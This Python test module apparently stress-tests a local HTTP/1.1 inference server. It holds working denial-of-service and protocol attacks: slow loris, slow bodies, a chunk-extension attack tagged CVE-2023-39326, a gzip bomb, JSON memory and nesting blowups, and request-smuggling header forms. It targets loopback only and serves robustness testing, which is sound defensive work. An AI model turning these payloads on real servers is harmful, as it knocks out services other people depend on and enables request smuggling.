"""What can be done to a port of HTTP/1.1 over loopback, each for a few seconds.

    python -m tests.integration.http_attacks NAME PORT [SECONDS]

runs one in a process of its own, so that who measures meanwhile shares no interpreter with it.
"""

from __future__ import annotations

import gzip
import json
import socket
import sys
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress

INFER = "/v2/models/identity/infer"
HEAD = f"POST {INFER} HTTP/1.1\r\nHost: here\r\n".encode()
LARGE = 30 << 20  # of a body, with room to the limit that the tests set
CONNECTIONS = 2000

Attack = Callable[[int, Callable[[], bool]], None]
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


def connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=5)


def again(port: int, on: Callable[[], bool], once: Callable[[socket.socket], None]) -> None:
    """The same on one connection after the other, for as long as there is time."""
    while on():
        with suppress(OSError), connect(port) as client:
            once(client)


def many(port: int, on: Callable[[], bool], first: bytes, then: bytes = b"") -> None:
    """The same on as many connections as there are; `then` goes out byte by byte."""
    with ExitStack() as held:
        clients = []
        for _ in range(CONNECTIONS):
            if not on():
                break
            with suppress(OSError):
                clients.append(held.enter_context(connect(port)))
                clients[-1].sendall(first)
        at = 0
        while on():
            time.sleep(0.05)
            for client in clients if at < len(then) else ():
                with suppress(OSError):
                    client.send(then[at : at + 1])
            at += 1


def body(data: bytes, headers: bytes = b"") -> bytes:
    return HEAD + headers + b"Content-Length: %d\r\n\r\n" % len(data) + data


@attack
def silent_connections(port: int, on: Callable[[], bool]) -> None:
    many(port, on, b"")


@attack
def slow_heads(port: int, on: Callable[[], bool]) -> None:
    """Slow loris."""
    many(port, on, HEAD, b"X-Header: " + b"x" * 10000)


@attack
def slow_bodies(port: int, on: Callable[[], bool]) -> None:
    """R-U-Dead-Yet: memory is reserved for a body that hardly comes."""
    many(port, on, HEAD + b"Content-Length: 1000000\r\n\r\n", b"x" * 10000)


@attack
def slow_chunks(port: int, on: Callable[[], bool]) -> None:
    many(port, on, HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 10000)


@attack
def tiny_chunks(port: int, on: Callable[[], bool]) -> None:
    def once(client: socket.socket) -> None:
        client.sendall(HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
        while on():
            client.sendall(b"1\r\nx\r\n" * 10000)

    again(port, on, once)


@attack
def chunk_extensions(port: int, on: Callable[[], bool]) -> None:
    """CVE-2023-39326."""

    def once(client: socket.socket) -> None:
        client.sendall(HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
        while on():
            client.sendall(b"1;" + b"x" * 4000 + b"\r\nx\r\n")

    again(port, on, once)


@attack
def endless_head(port: int, on: Callable[[], bool]) -> None:
    def once(client: socket.socket) -> None:
        client.sendall(HEAD)
        while on():
            client.sendall(b"A: b\r\n" * 10000)

    again(port, on, once)


@attack
def endless_line(port: int, on: Callable[[], bool]) -> None:
    def once(client: socket.socket) -> None:
        while on():
            client.sendall(b"x" * 65536)

    again(port, on, once)


@attack
def half_bodies(port: int, on: Callable[[], bool]) -> None:
    """As much as is let in, and no more."""
    with ExitStack() as held:
        while on():
            with suppress(OSError):
                client = held.enter_context(connect(port))
                client.settimeout(0.2)
                client.sendall(HEAD + b"Content-Length: %d\r\n\r\n" % LARGE + bytes(LARGE - 1))


@attack
def bombs(port: int, on: Callable[[], bool]) -> None:
    packed = gzip.compress(bytes(1 << 30), 1)

    def once(client: socket.socket) -> None:
        client.sendall(body(packed, b"Content-Encoding: gzip\r\n"))
        client.recv(4096)

    again(port, on, once)


@attack
def json_of_nothing(port: int, on: Callable[[], bool]) -> None:
    """Entries that take far more memory than text."""
    text = b'{"inputs":[' + b"{}," * (3 << 20) + b"{}]}"

    def once(client: socket.socket) -> None:
        client.sendall(body(text))
        client.recv(4096)

    again(port, on, once)


@attack
def json_nesting(port: int, on: Callable[[], bool]) -> None:
    text = b'{"inputs":[{"name":"x","shape":[1],"datatype":"FP32","data":' + b"[" * (4 << 20)

    def once(client: socket.socket) -> None:
        client.sendall(body(text))
        client.recv(4096)

    again(port, on, once)


@attack
def json_numbers(port: int, on: Callable[[], bool]) -> None:
    """A million numbers of seventeen digits, of which one is wrong."""
    numbers = b"[" + b"0.12345678901234567," * 200_000 + b"x]"
    text = b'{"inputs":[{"name":"x","shape":[200001],"datatype":"FP64","data":' + numbers + b"}]}"

    def once(client: socket.socket) -> None:
        while on():
            client.sendall(body(text))
            client.recv(4096)

    again(port, on, once)


@attack
def never_reads(port: int, on: Callable[[], bool]) -> None:
    """Requests one behind the other, and no answer is taken."""
    entry = {"name": "x", "shape": [32, 16], "datatype": "FP32", "data": [0.1] * 512}
    one = body(json.dumps({"inputs": [entry]}).encode())

    def once(client: socket.socket) -> None:
        client.settimeout(0.5)
        while on():
            client.sendall(one * 20)

    again(port, on, once)


@attack
def reconnects(port: int, on: Callable[[], bool]) -> None:
    again(port, on, lambda client: client.sendall(b"GET /v2 HTTP/1.1\r\nHost: h\r\n\r\n"))


@attack
def smuggled(port: int, on: Callable[[], bool]) -> None:
    """Each of these says two things about where its body ends."""
    forms = [
        b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n",
        b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n",
        b"Content-Length: +5\r\n\r\nhello",
    ]

    def once(client: socket.socket) -> None:
        for form in forms:
            client.sendall(HEAD + form)
            client.recv(4096)

    again(port, on, once)


def main() -> None:
    name, port = sys.argv[1], int(sys.argv[2])
    until = time.monotonic() + (float(sys.argv[3]) if len(sys.argv) > 3 else 4)
    with suppress(OSError):
        ATTACKS[name](port, lambda: time.monotonic() < until)


if __name__ == "__main__":
    main()
